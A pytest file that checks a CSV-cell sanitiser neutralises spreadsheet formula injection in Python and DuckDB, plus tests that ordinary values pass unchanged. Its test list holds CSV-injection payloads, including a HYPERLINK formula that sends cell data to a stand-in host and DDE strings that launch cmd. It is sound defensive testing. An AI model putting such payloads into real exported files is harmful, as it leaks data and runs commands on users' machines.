"""Formula cells (CSV injection) are neutralised, in Python and in DuckDB's COPY."""

import duckdb
import pytest

from tocsin.csvcells import safe, sql_safe

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_become_text(text):
    assert safe(text) == "'" + text
    con = duckdb.connect()
    assert con.execute(f"SELECT {sql_safe('x')} FROM (SELECT ? AS x)", [text]).fetchone() \
        == ("'" + text,)


def test_ordinary_values_are_kept():
    for value in ("Nairobi", "a=b", "", None, 3, -2.5, "2021-02-01"):
        assert safe(value) == value
    con = duckdb.connect()
    assert con.execute(f"SELECT {sql_safe('x')} FROM (SELECT 'Yangon, 3 killed' AS x)"
                       ).fetchone() == ("Yangon, 3 killed",)
